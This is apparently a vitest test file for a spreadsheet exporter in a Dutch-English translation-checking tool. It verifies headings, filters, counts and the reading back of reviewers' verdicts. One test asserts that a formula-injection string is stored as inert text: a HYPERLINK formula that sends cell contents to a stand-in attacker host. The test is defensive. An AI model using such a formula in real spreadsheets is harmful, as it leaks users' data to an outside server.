import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { expect, test } from 'vitest';
import { rowsOf, VERDICTS, xlsx } from '../../src/report/xlsx.ts';
import { faultsReviewed, HOSTILE, hostileReport } from './reports.ts';

/** A cell as the file has it: its type, its text, and whether it holds a formula. */
type Cell = Readonly<{ type: string; text: string; formula: boolean }>;

/** Reads a workbook without the library that wrote it: unzipped and parsed strictly; cells by their reference ("A1"). */
function cellsOf(bytes: Uint8Array, sheet = 'xl/worksheets/sheet1.xml'): ReadonlyMap<string, Cell> {
  const files = unzipSync(bytes);
  const xml = (path: string) => strFromU8(files[path] ?? new Uint8Array());
  const shared: string[] = [];
  parse(
    xml('xl/sharedStrings.xml'),
    (name) => name === 'si' && shared.push(''),
    (text) => {
      shared[shared.length - 1] += text;
    },
  );
  const cells = new Map<string, Cell>();
  let current: { reference: string; type: string; text: string; formula: boolean } | null = null;
  parse(
    xml(sheet),
    (name, attributes) => {
      if (name === 'f' && current) current.formula = true;
      if (name === 'c')
        current = { reference: attributes.r ?? '', type: attributes.t ?? 'n', text: '', formula: false };
    },
    (text) => {
      if (current) current.text += text;
    },
    (name) => {
      if (name === 'sheetData') current = null;
      if (name !== 'c' || !current) return;
      const { reference, type, text, formula } = current;
      cells.set(reference, { type, text: type === 's' ? (shared[Number(text)] ?? '') : text, formula });
    },
  );
  return cells;
}

function parse(
  xml: string,
  opened: (name: string, attributes: Record<string, string>) => void,
  said: (text: string) => void,
  closed: (name: string) => void = () => {},
): void {
  const parser = new SaxesParser();
  parser.on('opentag', ({ name, attributes }) => opened(name, attributes as Record<string, string>));
  parser.on('text', said);
  parser.on('closetag', ({ name }) => closed(name));
  parser.on('error', (error) => {
    throw error;
  });
  parser.write(xml).close();
}

const HEADINGS = [
  'document',
  'clause nl',
  'clause en',
  'Dutch passage',
  'English passage',
  'Dutch words',
  'English words',
  'message',
  'check',
  'severity',
  'MQM error type',
  'accepted',
  'fingerprint',
  'verdict',
  'comment',
];
const row = (cells: ReadonlyMap<string, Cell>, number: number) =>
  Object.fromEntries(
    HEADINGS.map((heading, at) => [heading, cells.get(`${String.fromCharCode(65 + at)}${number}`)?.text ?? '']),
  );

test('a row a finding, under its headings', async () => {
  const { report } = faultsReviewed();
  const cells = cellsOf(await xlsx(report));
  expect(Object.values(row(cells, 1))).toEqual(HEADINGS);
  const at = report.findings.findIndex(({ message }) => message.includes('€ 25.000'));
  const finding = report.findings[at];
  expect(row(cells, at + 2)).toEqual({
    document: 'corpus/waterlelie-faults/nl.txt and corpus/waterlelie-faults/en.txt',
    'clause nl': '4.8',
    'clause en': '4.8',
    'Dutch passage': finding?.passage.nl,
    'English passage': finding?.passage.en,
    'Dutch words': '€ 25.000,-',
    'English words': 'EUR 2,500',
    message: finding?.message,
    check: 'amounts',
    severity: 'error',
    'MQM error type': 'Accuracy > Mistranslation',
    accepted: '',
    fingerprint: finding?.fingerprint,
    verdict: '',
    comment: '',
  });
  expect(cells.has(`A${report.findings.length + 2}`)).toBe(false);
});

test('the header stays in view, can be filtered, and the verdict is chosen from a list', async () => {
  const { report } = faultsReviewed();
  const sheet = strFromU8(unzipSync(await xlsx(report))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  const last = report.findings.length + 1;
  expect(sheet).toContain('ySplit="1"');
  expect(sheet).toContain(`<autoFilter ref="A1:O${last}"/>`);
  expect(sheet).toMatch(new RegExp(`<dataValidation [^>]*sqref="N2:N${last}"`));
  expect(sheet).toContain(`<formula1>"${VERDICTS.join(',')}"</formula1>`);
});

test('the second sheet counts by check and by article', async () => {
  const { report } = faultsReviewed();
  const counts = cellsOf(await xlsx(report), 'xl/worksheets/sheet2.xml');
  const table = [...counts]
    .filter(([reference]) => reference.startsWith('A'))
    .map(([reference, { text }]) => [text, reference.slice(1)]);
  const [, total] = table.find(([text]) => text === 'total') ?? [];
  expect(counts.get(`C${total}`)?.text).toBe(String(report.summary.error));
  expect(counts.get(`D${total}`)?.text).toBe(String(report.summary.warning));
  const articles = [...counts].filter(([reference]) => reference.startsWith('B')).map(([, { text }]) => text);
  expect(articles).toEqual(expect.arrayContaining(['article', '1', '4', '5']));
});

test('equal reports are equal files', async () => {
  const { report } = faultsReviewed();
  expect(Buffer.compare(await xlsx(report), await xlsx(report))).toBe(0);
});

test('words that a spreadsheet would run are strings, and none is lost or breaks the file', async () => {
  const cells = cellsOf(await xlsx(hostileReport()));
  expect(cells.size).toBeGreaterThan(2 * HOSTILE.length * 8);
  for (const { type, formula } of cells.values()) {
    expect(formula).toBe(false);
    expect(['s', 'inlineStr', 'n']).toContain(type);
  }
  const numbers = [...cells.values()].filter(({ type, text }) => type === 'n' && text !== '');
  expect(numbers).toEqual([]);
  const texts = [...cells.values()].map(({ text }) => text);
  expect(texts).toContain('=HYPERLINK("http://kwaad.example/?x="&A1;"klik hier")');
  expect(texts).toContain('_x005F_x0041_ en _x005F_x000D_');
  expect(texts.join('')).not.toMatch(/[^\P{Cc}\n\t]|\p{Bidi_Control}/u);
});

/** The workbook as another program saves it: cells put in as inline strings, truth values or rich text. */
const filled = (bytes: Uint8Array, cells: Readonly<Record<string, string>>): Uint8Array => {
  const files = unzipSync(bytes);
  let xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  for (const [reference, cell] of Object.entries(cells))
    xml = xml.replace(new RegExp(`<c r="${reference}"[^>]*/>|<c r="${reference}"[^>]*>.*?</c>`), cell);
  return zipSync({ ...files, 'xl/worksheets/sheet1.xml': strToU8(xml) });
};

test('the verdicts of a reviser are read back, and rows without one are left out', async () => {
  const { report } = faultsReviewed();
  const bytes = filled(await xlsx(report), {
    N2: '<c r="N2" t="inlineStr"><is><t>Accept </t></is></c>',
    O2: '<c r="O2" t="inlineStr"><is><r><t>agreed with </t></r><r><rPr><b/></rPr><t>the client</t></r></is></c>',
    N4: '<c r="N4" t="b"><v>1</v></c>',
    O5: '<c r="O5" t="inlineStr"><is><t>what is this?</t></is></c>',
  });
  const document = 'corpus/waterlelie-faults/nl.txt and corpus/waterlelie-faults/en.txt';
  const fingerprint = (row: number) => report.findings[row - 2]?.fingerprint;
  expect(await rowsOf(bytes)).toEqual([
    { row: 2, document, fingerprint: fingerprint(2), verdict: 'accept', comment: 'agreed with the client' },
    { row: 4, document, fingerprint: fingerprint(4), verdict: 'true', comment: '' },
    { row: 5, document, fingerprint: fingerprint(5), verdict: '', comment: 'what is this?' },
  ]);
});

test('a workbook that is none of ours has no rows to read', async () => {
  const { report } = faultsReviewed();
  const bytes = filled(await xlsx(report), { M1: '<c r="M1" t="inlineStr"><is><t>hash</t></is></c>' });
  expect(await rowsOf(bytes)).toBeNull();
});
